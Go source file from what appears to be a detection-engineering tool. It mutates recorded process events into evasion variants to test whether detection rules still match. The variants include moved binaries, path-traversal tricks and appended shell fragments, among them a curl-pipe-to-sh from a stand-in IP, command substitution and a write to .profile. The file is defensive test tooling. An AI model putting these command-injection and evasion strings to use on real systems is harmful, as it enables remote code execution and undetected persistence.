package detection

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"

	"github.com/gyoji-dev/gyoji/diag"
	"github.com/gyoji-dev/gyoji/internal/detect/convert"
	"github.com/gyoji-dev/gyoji/internal/engine/query"
	"github.com/gyoji-dev/gyoji/internal/text/match"
)

// escapesOf changes the events that an entry excludes, in the cases that are its
// evidence, by every Escape, and lists the changes that it excludes too. tried counts the
// events that it excludes as they are.
func (s *Suite) escapesOf(e *Entry) (passed []string, tried int, err error) {
	cond, err := convert.SumoCondition(e.Cond, nil)
	if err != nil {
		return nil, 0, fmt.Errorf("%s: %w", e.File, err)
	}
	q, ds := query.Compile(diag.Text(e.File, "* | json auto | where "+cond+" | fields escape"), query.Standard())
	if err := ds.Err(); err != nil {
		return nil, 0, err
	}
	var text bytes.Buffer
	enc := json.NewEncoder(&text)
	for _, c := range s.Cases {
		if !slices.Contains(e.Evidence, c.ID) {
			continue
		}
		events, err := c.Recorded()
		if err != nil {
			return nil, 0, err
		}
		for _, event := range events {
			if event["EventID"] != "1" {
				continue
			}
			for _, v := range escaped(event) {
				if err := enc.Encode(v); err != nil {
					return nil, 0, err
				}
			}
		}
	}
	if text.Len() == 0 {
		return nil, 0, nil
	}
	rows, err := collect(context.Background(), q, text.Bytes())
	if err != nil {
		return nil, 0, err
	}
	for i := range rows.Values {
		if how := rows.Get(i, "escape").String(); how == "" {
			tried++
		} else {
			passed = append(passed, how)
		}
	}
	return passed, tried, nil
}

// unixAdminPath is a path of Linux or macOS under a folder that root alone writes, and what it
// begins with.
var unixAdminPath = match.Lazy(`(?:^|[ "'])(/(?:usr|opt|snap|app|Applications|Library|System|bin|sbin|lib)\b)/[^ "']+`)

// escaped is an event and its variants, each named in the field escape: one admin path of
// the command line changed, or the program itself moved.
func escaped(event Event) (out []Event) {
	variant := func(how string) Event {
		v := Event{}
		for k, x := range event {
			v[k] = x
		}
		v["escape"] = how
		out = append(out, v)
		return v
	}
	variant("")
	line, image := event.get("CommandLine"), event.get("Image")
	for _, at := range inAdminPath().FindAllStringIndex(line, -1) {
		for _, x := range Escapes {
			to := line[:at[0]] + x.To(line[at[0]:at[1]]) + line[at[1]:]
			variant(x.Name + ", " + to)["CommandLine"] = to
		}
	}
	moved := []string{`C:\Users\Public\` + baseName(image), `D:\Windows\System32\` + baseName(image), strings.Replace(image, `C:\`, `C:\Users\Public\`, 1)}
	if strings.HasPrefix(image, "/") { // of Linux or macOS
		for _, at := range unixAdminPath().FindAllStringSubmatchIndex(line, -1) {
			for _, x := range []string{"/../../tmp", "/..", "/./../../home/ana", "/.hidden"} {
				to := line[:at[3]] + x + line[at[3]:]
				variant("walk out, " + to)["CommandLine"] = to
			}
		}
		for _, x := range []string{"; curl http://192.0.2.1/a | sh", " && /tmp/a", " $(/tmp/a)", " `/tmp/a`", " > /home/ana/.profile"} {
			variant("more of a line, " + x)["CommandLine"] = line + x
		}
		base := image[strings.LastIndexByte(image, '/')+1:]
		moved = []string{"/tmp/" + base, "/home/ana/bin/" + base, "/usr/bin/../../tmp/" + base, "/Users/ana/Downloads/" + base}
	}
	for _, to := range moved {
		variant("moved-program, " + to)["Image"] = to
	}
	return out
}
